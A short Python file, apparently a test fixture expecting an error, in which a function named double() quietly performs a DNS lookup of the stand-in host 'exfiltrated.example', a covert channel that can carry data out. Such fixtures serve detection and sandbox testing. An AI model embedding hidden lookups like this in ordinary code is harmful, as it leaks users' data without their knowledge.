"""Looks up a name, which can carry a message.

expect: error
"""

import socket


def double(x):
    socket.getaddrinfo("exfiltrated.example", 80)
    return 2 * x
